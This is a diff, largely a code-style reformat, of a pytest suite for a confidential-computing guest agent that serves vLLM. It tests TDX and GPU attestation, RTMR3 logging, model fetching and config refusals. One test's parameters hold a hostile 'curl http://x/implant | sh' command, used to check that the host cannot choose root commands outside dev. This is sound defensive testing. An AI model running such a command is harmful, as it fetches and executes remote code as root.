@@ -1,5 +1,6 @@
 """The guest agent, driven on this machine: a temporary root stands in for /sys and /dev, commands
 are scripted, and the dev run starts the real stand-in and gateway on free loopback ports."""
+
 from __future__ import annotations
 
 import base64
@@ -46,6 +47,7 @@ PROMPT = "Say OK"
 
 # ---- helpers ----------------------------------------------------------------------------------
 
+
 def free_port() -> int:
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
@@ -76,17 +78,36 @@ def write_model(src: Path, files: dict[str, bytes]) -> dict[str, str]:
     return {name: hashlib.sha256(data).hexdigest() for name, data in files.items()}
 
 
-def config_doc(tmp: Path, hashes: dict[str, str], *, stack: str = "dev", server: str = "standin",
-               source: str | None = None, expect: str | None = None, max_tokens: int = 4) -> dict:
-    return {"stack": stack, "server": server,
-            "workload": {"image": IMAGE, "model": {"id": MODEL_ID, "revision": REV, "files": hashes},
-                         "vllmArgs": ["--max-model-len", "4096"], "tensorParallelSize": 1},
-            "model": {"source": source or (tmp / "src").as_uri(), "dir": str(tmp / "model")},
-            "gateway": {"port": free_port(), "listen": "127.0.0.1"}, "serverPort": free_port(),
-            "stateDir": str(tmp / "state"),
-            "knownAnswer": {"prompt": PROMPT, "maxTokens": max_tokens,
-                            "expect": known_answer(PROMPT, max_tokens=max_tokens) if expect is None else expect,
-                            "timeoutSeconds": 20}}
+def config_doc(
+    tmp: Path,
+    hashes: dict[str, str],
+    *,
+    stack: str = "dev",
+    server: str = "standin",
+    source: str | None = None,
+    expect: str | None = None,
+    max_tokens: int = 4,
+) -> dict:
+    return {
+        "stack": stack,
+        "server": server,
+        "workload": {
+            "image": IMAGE,
+            "model": {"id": MODEL_ID, "revision": REV, "files": hashes},
+            "vllmArgs": ["--max-model-len", "4096"],
+            "tensorParallelSize": 1,
+        },
+        "model": {"source": source or (tmp / "src").as_uri(), "dir": str(tmp / "model")},
+        "gateway": {"port": free_port(), "listen": "127.0.0.1"},
+        "serverPort": free_port(),
+        "stateDir": str(tmp / "state"),
+        "knownAnswer": {
+            "prompt": PROMPT,
+            "maxTokens": max_tokens,
+            "expect": known_answer(PROMPT, max_tokens=max_tokens) if expect is None else expect,
+            "timeoutSeconds": 20,
+        },
+    }
 
 
 @pytest.fixture(autouse=True)
@@ -153,9 +174,10 @@ def all_exited(agent_children: list) -> bool:
 
 # ---- step 1: TDX ------------------------------------------------------------------------------
 
+
 def test_prod_without_tdx_is_refused_and_starts_nothing(tmp_path, root, model_src):
     (root / "dev").mkdir()
-    (root / "dev/ttyS0").write_text("")   # a "console": the report must reach it too
+    (root / "dev/ttyS0").write_text("")  # a "console": the report must reach it too
     commands = Commands()
     doc = config_doc(tmp_path, model_src, stack="prod", server="vllm")
     agent, out = make_agent(doc, root, commands)
@@ -175,6 +197,7 @@ def test_an_unexpected_error_is_reported_as_refused_at_step_internal(tmp_path, r
     # The host waits for one report line: a bug must end in a refusal naming it, not in silence.
     def broken(system):
         raise KeyError("tdx_guest")
+
     monkeypatch.setattr("guest_agent.agent.detect_tdx", broken)
     agent, out = make_agent(config_doc(tmp_path, model_src), root)
     report = agent.start()
@@ -190,8 +213,9 @@ def test_the_image_decides_the_stack_not_the_host(tmp_path, root, model_src, bui
     (root / "etc/tdx-vllm").mkdir(parents=True)
     (root / "etc/tdx-vllm/image.json").write_text(json.dumps({"stack": built_for, "suite": "trixie"}))
     commands = Commands()
-    agent, out = make_agent(config_doc(tmp_path, model_src, stack=stack, server="standin" if stack == "dev" else "vllm"),
-                            root, commands)
+    agent, out = make_agent(
+        config_doc(tmp_path, model_src, stack=stack, server="standin" if stack == "dev" else "vllm"), root, commands
+    )
     report = agent.start()
     assert report.state == "refused" and report.step == "image"
     assert f"seen one built for {built_for!r}" in report.reason and f"says {stack!r}" in report.reason
@@ -209,12 +233,17 @@ def test_staging_boots_the_prod_image(tmp_path, root, model_src):
     assert report.state == "refused" and report.step == "tdx"
 
 
-@pytest.mark.parametrize("mutate, key", [
-    (lambda d: d.update(gpu={"evidenceCommand": ["sh", "-c", "curl http://x/implant | sh # {nonce}"]}),
-     "config.gpu.evidenceCommand"),
-    (lambda d: d.update(gpu={"rootCa": "/sys/firmware/qemu_fw_cfg/by_name/opt/ca/raw"}), "config.gpu.rootCa"),
-    (lambda d: d.update(podman="/tmp/not-podman"), "config.podman"),
-])
+@pytest.mark.parametrize(
+    "mutate, key",
+    [
+        (
+            lambda d: d.update(gpu={"evidenceCommand": ["sh", "-c", "curl http://x/implant | sh # {nonce}"]}),
+            "config.gpu.evidenceCommand",
+        ),
+        (lambda d: d.update(gpu={"rootCa": "/sys/firmware/qemu_fw_cfg/by_name/opt/ca/raw"}), "config.gpu.rootCa"),
+        (lambda d: d.update(podman="/tmp/not-podman"), "config.podman"),
+    ],
+)
 def test_outside_dev_the_host_cannot_choose_what_runs_as_root(tmp_path, model_src, mutate, key):
     doc = config_doc(tmp_path, model_src, stack="prod", server="vllm")
     mutate(doc)
@@ -246,6 +275,7 @@ def test_detect_tdx_with_a_td_tree(root):
 
 # ---- step 2: RTMR3 ----------------------------------------------------------------------------
 
+
 def test_rtmr3_gets_exactly_the_digest_and_the_event_is_logged(tmp_path, root, model_src):
     """A plain file does not extend, so the read-back check refuses; the write itself is what we see."""
     rtmr3_file = fake_tdx(root)
@@ -257,7 +287,8 @@ def test_rtmr3_gets_exactly_the_digest_and_the_event_is_logged(tmp_path, root, m
     assert rtmr3_file.read_bytes() == manifest.digest() and len(manifest.digest()) == 48
     events = [json.loads(line) for line in (tmp_path / "state/rtmr3-events.jsonl").read_text().splitlines()]
     assert [(e["rtmr"], e["event"], e["digest"]) for e in events] == [
-        (3, "tdx-vllm/workload-manifest/v1", manifest.digest().hex())]
+        (3, "tdx-vllm/workload-manifest/v1", manifest.digest().hex())
+    ]
     assert events[0]["manifest"] == manifest.as_dict()
     assert replay_rtmr3(events) == expected_rtmr3(manifest)
     # The file reads back the raw digest, not SHA-384(zero || digest): the agent notices and refuses.
@@ -301,6 +332,7 @@ def test_sysfs_rtmr3_reads_raw_or_hex_and_refuses_garbage(tmp_path):
 
 # ---- step 4: model ----------------------------------------------------------------------------
 
+
 @pytest.fixture
 def http_dir(tmp_path: Path) -> Iterator[tuple[str, Path]]:
     served = tmp_path / "served"
@@ -331,13 +363,16 @@ def test_model_fetch_file_urls_keeps_good_files_and_expands_source(tmp_path, mod
     assert sorted(first.fetched) == sorted(model_src) and first.kept == ()
     second = fetch_model(manifest, src, tmp_path / "model")
     assert second.fetched == () and sorted(second.kept) == sorted(model_src)
-    assert file_url("https://huggingface.co/{id}/resolve/{revision}/", manifest, "a b.json") == \
-        f"https://huggingface.co/{MODEL_ID}/resolve/{REV}/a%20b.json"
+    assert (
+        file_url("https://huggingface.co/{id}/resolve/{revision}/", manifest, "a b.json")
+        == f"https://huggingface.co/{MODEL_ID}/resolve/{REV}/a%20b.json"
+    )
     with pytest.raises(Refused, match="model file config.json: a download from"):
         fetch_model(manifest, (tmp_path / "nowhere").as_uri(), tmp_path / "model2")
 
 
 # ---- the full dev run -------------------------------------------------------------------------
+
 
 def get_attestation(base: str, nonce: bytes) -> tuple[dict, bytes]:
     """The attestation document and the SPKI of the TLS key that served it (one connection)."""
@@ -347,8 +382,10 @@ def get_attestation(base: str, nonce: bytes) -> tuple[dict, bytes]:
     host, port = base.removeprefix("https://").rsplit(":", 1)
     with socket.create_connection((host, int(port)), timeout=10) as raw, ctx.wrap_socket(raw) as tls:
         cert = tls.getpeercert(binary_form=True)
-        tls.sendall(f"GET /.well-known/tdx-attestation?nonce={nonce.hex()} HTTP/1.1\r\nHost: x\r\n"
-                    "Connection: close\r\n\r\n".encode())
+        tls.sendall(
+            f"GET /.well-known/tdx-attestation?nonce={nonce.hex()} HTTP/1.1\r\nHost: x\r\n"
+            "Connection: close\r\n\r\n".encode()
+        )
         data = b""
         while chunk := tls.recv(65536):
             data += chunk
@@ -361,7 +398,7 @@ def get_attestation(base: str, nonce: bytes) -> tuple[dict, bytes]:
             n = int(size, 16)
             if n == 0:
                 break
-            out, rest = out + rest[:n], rest[n + 2:]
+            out, rest = out + rest[:n], rest[n + 2 :]
         body = out
     return json.loads(body), spki_der(cert)
 
@@ -383,19 +420,25 @@ def test_dev_run_serves_an_attested_endpoint_and_is_supervised(tmp_path, root, m
         nonce = secrets.token_bytes(32)
         att, spki = get_attestation(seen["endpoint"], nonce)
         pki = tmp_path / "state/test-pki"
-        verdict = verify_quote(base64.b64decode(att["quote"]),
-                               collateral_from_json_text((pki / "collateral.json").read_text()), int(time.time()),
-                               expected_report_data=expected_report_data(spki, nonce),
-                               root_ca_der=(pki / "root-ca.der").read_bytes())
+        verdict = verify_quote(
+            base64.b64decode(att["quote"]),
+            collateral_from_json_text((pki / "collateral.json").read_text()),
+            int(time.time()),
+            expected_report_data=expected_report_data(spki, nonce),
+            root_ca_der=(pki / "root-ca.der").read_bytes(),
+        )
         assert verdict.accepted, verdict.as_dict()
         assert att["quote_source"] == "software-test-pki" and att["gpu_evidence"] is None
         events = [json.loads(line) for line in base64.b64decode(att["event_log"]).decode().splitlines()]
         assert replay_rtmr3(events).hex() == seen["rtmr3"]
 
         # Through the gateway, the OpenAI API answers like the known-answer check saw it.
-        req = urllib.request.Request(seen["endpoint"] + "/v1/completions", method="POST",
-                                     data=json.dumps(request_body(agent.config.known_answer, MODEL_ID)).encode(),
-                                     headers={"content-type": "application/json"})
+        req = urllib.request.Request(
+            seen["endpoint"] + "/v1/completions",
+            method="POST",
+            data=json.dumps(request_body(agent.config.known_answer, MODEL_ID)).encode(),
+            headers={"content-type": "application/json"},
+        )
         ctx = ssl._create_unverified_context()
         with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:
             assert json.loads(resp.read())["choices"][0]["text"] == known_answer(PROMPT, max_tokens=4)
@@ -433,8 +476,16 @@ def test_wrong_known_answer_is_refused_and_everything_stops(tmp_path, root, mode
         agent.stop()
 
 
-@pytest.mark.parametrize("expect, ok", [(" Paris", True), (" Paris. It is", True), ("Paris", False),
-                                        (" paris", False), (" Paris. It is the capital", False)])
+@pytest.mark.parametrize(
+    "expect, ok",
+    [
+        (" Paris", True),
+        (" Paris. It is", True),
+        ("Paris", False),
+        (" paris", False),
+        (" Paris. It is the capital", False),
+    ],
+)
 def test_the_known_answer_is_a_prefix_of_the_greedy_completion(expect, ok):
     known = KnownAnswer(prompt="The capital of France is", expect=expect)
     if ok:
@@ -454,20 +505,27 @@ def test_main_reports_an_unusable_config(tmp_path, capsys):
 
 # ---- config -----------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("mutate, expected", [
-    (lambda d: d.update(server="standin", stack="prod"), "the stand-in echoes prompts"),
-    (lambda d: d["workload"].update(vllmArgs=["--kv-offloading-size", "8"]), "`--kv-offloading-size` offloads to CPU memory"),
-    (lambda d: d["workload"].update(vllmArgs=["--cpu-offload-gb=4"]), "`--cpu-offload-gb` offloads to CPU memory"),
-    (lambda d: d["workload"].update(vllmArgs=["--host", "0.0.0.0"]), "`--host` is set by the deployment"),
-    (lambda d: d["workload"].update(image="vllm/vllm-openai:latest"), "workload.image by digest"),
-    (lambda d: d.update(colour="red"), "unknown key 'colour'"),
-    (lambda d: d["model"].update(source="ftp://x"), "https://, http:// or file://"),
-    (lambda d: d.update(gpu={"evidenceCommand": ["nvattest", "collect-evidence"]}), "{nonce}"),
-    (lambda d: d.update(serverPort=d["gateway"]["port"]), "different from config.gateway.port"),
-    (lambda d: d.update(stack="Prod!"), "config.stack as a stack name"),
-    (lambda d: d["knownAnswer"].pop("expect"), "config.knownAnswer.expect"),
-    (lambda d: d["knownAnswer"].update(expect=" \n"), "config.knownAnswer.expect as a string that is not blank"),
-])
+
+@pytest.mark.parametrize(
+    "mutate, expected",
+    [
+        (lambda d: d.update(server="standin", stack="prod"), "the stand-in echoes prompts"),
+        (
+            lambda d: d["workload"].update(vllmArgs=["--kv-offloading-size", "8"]),
+            "`--kv-offloading-size` offloads to CPU memory",
+        ),
+        (lambda d: d["workload"].update(vllmArgs=["--cpu-offload-gb=4"]), "`--cpu-offload-gb` offloads to CPU memory"),
+        (lambda d: d["workload"].update(vllmArgs=["--host", "0.0.0.0"]), "`--host` is set by the deployment"),
+        (lambda d: d["workload"].update(image="vllm/vllm-openai:latest"), "workload.image by digest"),
+        (lambda d: d.update(colour="red"), "unknown key 'colour'"),
+        (lambda d: d["model"].update(source="ftp://x"), "https://, http:// or file://"),
+        (lambda d: d.update(gpu={"evidenceCommand": ["nvattest", "collect-evidence"]}), "{nonce}"),
+        (lambda d: d.update(serverPort=d["gateway"]["port"]), "different from config.gateway.port"),
+        (lambda d: d.update(stack="Prod!"), "config.stack as a stack name"),
+        (lambda d: d["knownAnswer"].pop("expect"), "config.knownAnswer.expect"),
+        (lambda d: d["knownAnswer"].update(expect=" \n"), "config.knownAnswer.expect as a string that is not blank"),
+    ],
+)
 def test_config_refusals(tmp_path, mutate, expected):
     doc = config_doc(tmp_path, {"a": "aa" * 32})
     mutate(doc)
@@ -480,8 +538,12 @@ def test_config_defaults_and_file_errors(tmp_path):
     doc = config_doc(tmp_path, {"a": "aa" * 32}, stack="prod", server="vllm")
     del doc["gateway"], doc["serverPort"], doc["stateDir"]
     cfg = config_from_mapping(doc)
-    assert (cfg.gateway_port, cfg.gateway_listen, cfg.server_port, cfg.state_dir) == (8443, "0.0.0.0", 8000,
-                                                                                      "/run/tdx-vllm")
+    assert (cfg.gateway_port, cfg.gateway_listen, cfg.server_port, cfg.state_dir) == (
+        8443,
+        "0.0.0.0",
+        8000,
+        "/run/tdx-vllm",
+    )
     assert cfg.gpu.evidence_command == ("{python}", "-m", "guest_agent.nvml", "--nonce", "{nonce}") and not cfg.dev
     assert cfg.gpu.root_ca is None  # the NVIDIA root is pinned by fingerprint (tdxattest.gpu_evidence)
     with pytest.raises(InputError, match="fw_cfg opt/tdx-vllm/agent.json"):
@@ -497,14 +559,13 @@ def test_vllm_command_line(tmp_path):
     assert argv[:3] == ["podman", "run", "--rm"]
     image_at = argv.index(IMAGE)
     assert "VLLM_USE_V2_MODEL_RUNNER=0" in argv[:image_at] and "nvidia.com/gpu=all" in argv[:image_at]
-    after = argv[image_at + 1:]
+    after = argv[image_at + 1 :]
     assert after[:2] == ["--model", "/var/lib/tdx-vllm/model"]
     assert after[after.index("--host") + 1] == "127.0.0.1" and after[after.index("--port") + 1] == "8000"
     assert after[after.index("--tensor-parallel-size") + 1] == "1" and after[-2:] == ["--max-model-len", "4096"]
 
 
 # ---- step 3: GPU ------------------------------------------------------------------------------
-
 
 
 class RealCommands:
@@ -529,8 +590,10 @@ def test_gpu_verified_then_set_ready(tmp_path, nvml_gpu):
     cfg = gpu_config(tmp_path, vbios=["96.00.9F.00.01"], driver="550.90.07")
     commands = RealCommands()
     result = attest_gpus(cfg, System(run=commands), tmp_path / "state", lambda: NONCE1)
-    assert [c[1:] for c in commands.calls] == [["-m", "guest_agent.nvml", "--nonce", NONCE1.hex()],
-                                              ["-m", "guest_agent.nvml", "--set-ready"]]
+    assert [c[1:] for c in commands.calls] == [
+        ["-m", "guest_agent.nvml", "--nonce", NONCE1.hex()],
+        ["-m", "guest_agent.nvml", "--set-ready"],
+    ]
     assert (nvml_gpu / "nonce-0.bin").read_bytes() == NONCE1 and (nvml_gpu / "ready").read_text() == "1"
     written = json.loads(result.evidence_path.read_text())
     assert written["nonce"] == NONCE1.hex() and len(written["gpus"]) == 1
@@ -538,19 +601,26 @@ def test_gpu_verified_then_set_ready(tmp_path, nvml_gpu):
     assert written["gpus"][0]["fwid"].startswith("f5c384ae") and written["gpus"][0]["driver_version"] == "550.90.07"
 
 
-@pytest.mark.parametrize("env, gpu, nonce, match", [
-    ({"NVML_STANDIN_CHAIN": "hopper_cert_chain_case3.txt"}, {}, NONCE1, "gpu.chain_invalid"),
-    ({"NVML_STANDIN_CHAIN": "hopper_coco_certs1.txt"}, {}, NONCE1, "gpu.signature_invalid"),
-    ({}, {}, bytes(32), "gpu.nonce_mismatch"),
-    ({}, {"vbios": ["96.00.AA.00.01"]}, NONCE1, "VBIOS among"),
-    ({}, {"driver": "580.95.05"}, NONCE1, "driver 580.95.05"),
-    ({"NVML_STANDIN_GPUS": "2"}, {}, NONCE1, "1 GPU\\(s\\) .* evidence for 2"),
-    ({"NVML_STANDIN_CC": "2,0,0"}, {}, NONCE1, "confidential computing on"),
-    ({"NVML_STANDIN_CC": "2,1,1"}, {}, NONCE1, "devtools mode off outside the dev stack"),
-    ({"NVML_STANDIN_CC": "1,1,0"}, {}, NONCE1, "CC environment 'prod', seen 'sim'"),
-    ({"NVML_STANDIN_FAIL": "nvmlDeviceGetConfComputeGpuAttestationReport"}, {}, NONCE1,
-     "nvmlDeviceGetConfComputeGpuAttestationReport returned 999"),
-])
+@pytest.mark.parametrize(
+    "env, gpu, nonce, match",
+    [
+        ({"NVML_STANDIN_CHAIN": "hopper_cert_chain_case3.txt"}, {}, NONCE1, "gpu.chain_invalid"),
+        ({"NVML_STANDIN_CHAIN": "hopper_coco_certs1.txt"}, {}, NONCE1, "gpu.signature_invalid"),
+        ({}, {}, bytes(32), "gpu.nonce_mismatch"),
+        ({}, {"vbios": ["96.00.AA.00.01"]}, NONCE1, "VBIOS among"),
+        ({}, {"driver": "580.95.05"}, NONCE1, "driver 580.95.05"),
+        ({"NVML_STANDIN_GPUS": "2"}, {}, NONCE1, "1 GPU\\(s\\) .* evidence for 2"),
+        ({"NVML_STANDIN_CC": "2,0,0"}, {}, NONCE1, "confidential computing on"),
+        ({"NVML_STANDIN_CC": "2,1,1"}, {}, NONCE1, "devtools mode off outside the dev stack"),
+        ({"NVML_STANDIN_CC": "1,1,0"}, {}, NONCE1, "CC environment 'prod', seen 'sim'"),
+        (
+            {"NVML_STANDIN_FAIL": "nvmlDeviceGetConfComputeGpuAttestationReport"},
+            {},
+            NONCE1,
+            "nvmlDeviceGetConfComputeGpuAttestationReport returned 999",
+        ),
+    ],
+)
 def test_gpu_refusals_never_set_ready(tmp_path, nvml_gpu, monkeypatch, env, gpu, nonce, match):
     for key, value in env.items():
         monkeypatch.setenv(key, str(GPU_FIXTURES / value) if value.endswith(".txt") else value)
@@ -564,8 +634,9 @@ def test_gpu_refusals_never_set_ready(tmp_path, nvml_gpu, monkeypatch, env, gpu,
 
 def test_gpu_devtools_is_accepted_in_dev(tmp_path, nvml_gpu, monkeypatch):
     monkeypatch.setenv("NVML_STANDIN_CC", "2,1,1")
-    result = attest_gpus(gpu_config(tmp_path, stack="dev"), System(run=RealCommands()), tmp_path / "state",
-                         lambda: NONCE1)
+    result = attest_gpus(
+        gpu_config(tmp_path, stack="dev"), System(run=RealCommands()), tmp_path / "state", lambda: NONCE1
+    )
     assert result.gpus and json.loads(result.evidence_path.read_text())["cc"]["devtools"] is True
 
 
@@ -580,13 +651,16 @@ def test_gpu_ready_state_that_fails_or_does_not_stick_is_refused(tmp_path, nvml_
     assert not (tmp_path / "state/gpu-evidence.json").exists()
 
 
-@pytest.mark.parametrize("cc, dev, match", [
-    (None, False, "CC state .* seen none"),
-    ({"environment": "prod", "enabled": False, "devtools": False}, True, "confidential computing on"),
-    ({"environment": "prod", "enabled": True, "devtools": True}, False, "devtools mode off"),
-    ({"environment": "sim", "enabled": True, "devtools": False}, False, "CC environment 'prod'"),
-    ({"environment": "prod"}, False, "'cc' as"),
-])
+@pytest.mark.parametrize(
+    "cc, dev, match",
+    [
+        (None, False, "CC state .* seen none"),
+        ({"environment": "prod", "enabled": False, "devtools": False}, True, "confidential computing on"),
+        ({"environment": "prod", "enabled": True, "devtools": True}, False, "devtools mode off"),
+        ({"environment": "sim", "enabled": True, "devtools": False}, False, "CC environment 'prod'"),
+        ({"environment": "prod"}, False, "'cc' as"),
+    ],
+)
 def test_cc_state_refusals(cc, dev, match):
     # Pure, no stand-in library needed: what the agent accepts of the collector's "cc" report.
     doc = {"evidences": [], **({} if cc is None else {"cc": cc})}
